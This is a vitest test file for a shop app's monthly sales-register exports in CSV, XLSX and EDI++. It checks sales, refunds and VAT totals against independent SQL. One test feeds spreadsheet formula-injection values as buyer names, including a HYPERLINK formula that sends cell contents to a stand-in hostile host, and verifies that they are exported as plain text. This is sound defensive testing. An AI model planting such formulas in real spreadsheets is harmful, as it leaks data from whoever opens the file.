import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadDemoShop } from '../../../electron/core/demo/demo-shop';
import { localDate, monthPeriod } from '../../../electron/core/export/period';
import { salesRegisterFile } from '../../../electron/core/export/export.service';
import { tempCore, type TempCore } from '../../support/temp-core';
import { cellMinor, money, readEpp, readNotesCsv, readRegisterCsv, readXlsx, eppMinor, sheetRows } from './support/read-exports';

/**
 * The demo shop (six months of Pod Lipą) exported month by month. Expectations are computed from the
 * database with independent SQL, not from the exporter: which orders are sales of the month, what the
 * buyers paid, which refunds happened in the month.
 */
let t: TempCore;
const MONTH = '2026-10';

beforeAll(async () => {
  t = await tempCore({ now: () => new Date('2026-11-20T10:00:00Z') });
  await loadDemoShop(t.core, { orders: 2000, products: 200, seed: 7 });
});
afterAll(() => t.dispose());

/**
 * The month's sales by their tax point: the payment day; for an order shipped without a recorded payment
 * (cash on delivery on its way), the shipment day once it is delivered or a week old at the month's end.
 */
function expectedSales(month: string) {
  const p = monthPeriod(month);
  const rows = t.core.sqlite
    .prepare(
      `SELECT id, paid_at, status, total_to_pay_grosze AS total, (SELECT MIN(dispatched_at) FROM shipments s WHERE s.order_id = o.id) AS shipped,
              (SELECT COUNT(DISTINCT CAST(vat_rate AS REAL)) FROM order_lines l WHERE l.order_id = o.id) AS rates
         FROM orders o WHERE status <> 'cancelled' AND allegro_status = 'READY_FOR_PROCESSING'`,
    )
    .all() as Array<{ id: number; paid_at: string | null; status: string; shipped: string | null; total: number; rates: number }>;
  const weekBeforeEnd = new Date(Date.parse(`${p.lastDay}T00:00:00Z`) - 7 * 86_400_000).toISOString().slice(0, 10);
  return rows.filter((r) => {
    if (r.paid_at !== null) return (localDate(r.paid_at) ?? '').startsWith(month);
    const shipped = localDate(r.shipped);
    return shipped !== null && shipped.startsWith(month) && (r.status === 'delivered' || shipped <= weekBeforeEnd);
  });
}

function expectedRefunds(month: string) {
  const p = monthPeriod(month);
  const rows = t.core.sqlite
    .prepare(`SELECT r.id, r.refunded_at, r.refund_grosze AS refund FROM returns r JOIN orders o ON o.id = r.order_id
               WHERE r.status <> 'rejected' AND o.status <> 'cancelled' AND r.refunded_at >= ? AND r.refunded_at < ?`)
    .all(p.sqlFrom, p.sqlTo) as Array<{ id: number; refunded_at: string; refund: number }>;
  return rows.filter((r) => (localDate(r.refunded_at) ?? '').startsWith(month));
}

describe('sales register of the demo shop', () => {
  it('has one document per sale and per refund of the month, gross = what the buyer paid', async () => {
    for (const month of ['2026-07', MONTH]) {
      const { register } = await salesRegisterFile(t.core, month, 'csv');
      const sales = expectedSales(month);
      const refunds = expectedRefunds(month);
      expect(sales.length).toBeGreaterThan(200);
      expect(refunds.length).toBeGreaterThan(3);
      const saleDocs = register.documents.filter((d) => d.kind === 'sale');
      expect(saleDocs.map((d) => d.sale.orderId).sort((a, b) => a - b)).toEqual(sales.map((s) => s.id).sort((a, b) => a - b));
      for (const doc of saleDocs) expect(doc.gross).toBe(sales.find((s) => s.id === doc.sale.orderId)?.total);
      expect(register.rows.filter((r) => r.kind === 'sale')).toHaveLength(sales.reduce((a, s) => a + s.rates, 0));
      const corrections = register.documents.filter((d) => d.kind === 'correction');
      expect(corrections.map((d) => d.returnId).sort((a, b) => (a ?? 0) - (b ?? 0))).toEqual(refunds.map((r) => r.id).sort((a, b) => a - b));
      for (const c of corrections) {
        expect(c.gross).toBe(-(refunds.find((r) => r.id === c.returnId)?.refund ?? NaN));
        for (const row of c.rows) {
          expect(row.gross).toBeLessThan(0);
          expect(row.correctionDate?.startsWith(month)).toBe(true);
        }
      }
      for (const row of register.rows) expect(row.net + row.vat).toBe(row.gross);
    }
  });

  it('CSV and XLSX say the same as the register, totals equal the sums of rows', async () => {
    const csvFile = await salesRegisterFile(t.core, MONTH, 'csv');
    const csv = { ...readRegisterCsv(csvFile.bytes), totals: readNotesCsv(csvFile.notes!.bytes).totals };
    expect(csv.rows).toHaveLength(csvFile.register.rows.length);
    const wb = await readXlsx((await salesRegisterFile(t.core, MONTH, 'xlsx')).bytes);
    const xrows = sheetRows(wb.getWorksheet('Rejestr')!);
    expect(xrows).toHaveLength(csv.rows.length);
    csv.rows.forEach((row, i) => {
      const x = xrows[i]!;
      expect(money(row.Netto) + money(row.VAT)).toBe(money(row.Brutto));
      expect(cellMinor(x.Brutto!.value)).toBe(money(row.Brutto));
      expect(x['Nr w Zapleczu']!.value).toBe(row['Nr w Zapleczu']);
    });
    const xTotals = sheetRows(wb.getWorksheet('Podsumowanie')!);
    for (const rate of ['23%', '8%', '5%']) {
      const csvTotal = csv.totals.find((r) => r['Stawka VAT'] === rate)!;
      const xTotal = xTotals.find((r) => r['Stawka VAT']!.value === rate)!;
      const rows = csv.rows.filter((r) => r['Stawka VAT'] === rate);
      for (const col of ['Netto', 'VAT', 'Brutto']) {
        const sum = rows.reduce((a, r) => a + money(r[col]), 0);
        expect(money(csvTotal[col])).toBe(sum);
        expect(cellMinor(xTotal[col]!.value)).toBe(sum);
      }
    }
    const corrections = csv.rows.filter((r) => r.Rodzaj === 'korekta');
    expect(corrections.length).toBeGreaterThan(0);
    for (const r of corrections) {
      expect(money(r.Brutto)).toBeLessThan(0);
      expect((r['Data korekty'] ?? '').startsWith(MONTH)).toBe(true);
    }
  });

  it('keeps formula-looking buyer names as text in CSV and XLSX', async () => {
    // The running month: a month that has ended is closed by its first export and never changes again.
    const MONTH = '2026-11';
    const hostile = ['=HYPERLINK("http://zly.example/?x="&A1;"Kliknij")', '+48 600 100 200', '@SUM(A1:A9)', '-2+3 Kowalski', '\tTab Nowak'];
    const targets = expectedSales(MONTH).slice(0, hostile.length);
    const update = t.core.sqlite.prepare('UPDATE orders SET buyer_name = ?, invoice_required = 0 WHERE id = ?');
    targets.forEach((s, i) => update.run(hostile[i], s.id));

    const csv = readRegisterCsv((await salesRegisterFile(t.core, MONTH, 'csv')).bytes);
    for (const [i, s] of targets.entries()) {
      const row = csv.rows.find((r) => r['Nr w Zapleczu'] === `ZAP-${s.id}`)!;
      expect(row.Nabywca).toBe(`'${hostile[i]}`);
    }
    expect(csv.text).toContain(`"'=HYPERLINK(""http://zly.example/?x=""&A1;""Kliknij"")"`);

    const bytes = (await salesRegisterFile(t.core, MONTH, 'xlsx')).bytes;
    const wb = await readXlsx(bytes);
    const xrows = sheetRows(wb.getWorksheet('Rejestr')!);
    for (const [i, s] of targets.entries()) {
      const cell = xrows.find((r) => r['Nr w Zapleczu']!.value === `ZAP-${s.id}`)!.Nabywca!;
      expect(cell.value).toBe(hostile[i]);
      expect(cell.formula).toBeUndefined();
      expect(cell.type).toBe(3); // ExcelJS.ValueType.String
    }
    // And in the file itself: no formula element anywhere in the workbook.
    const zip = await JSZip.loadAsync(Buffer.from(bytes));
    for (const name of Object.keys(zip.files).filter((n) => /^xl\/worksheets\/.*\.xml$/.test(n))) {
      expect(await zip.file(name)!.async('string')).not.toMatch(/<f[ >]/);
    }
  });

  it('writes an EDI++ file that adds up to the register', async () => {
    const { bytes, register } = await salesRegisterFile(t.core, MONTH, 'epp');
    const epp = readEpp(bytes);
    const vatRows = epp.sections.filter((s, i) => s.label === 'ZAWARTOSC' && epp.sections[i - 1]?.records[0]?.length !== 1).flatMap((s) => s.records);
    expect(vatRows).toHaveLength(register.rows.length);
    for (const [i, col] of [[2, 'net'], [3, 'vat'], [4, 'gross']] as const) {
      expect(vatRows.reduce((a, v) => a + eppMinor(v[i]!), 0)).toBe(register.rows.reduce((a, r) => a + r[col], 0));
    }
    expect(epp.text).toMatch(/[ąćęłńóśźżĄĆĘŁŃÓŚŹŻ]/);
  });
});
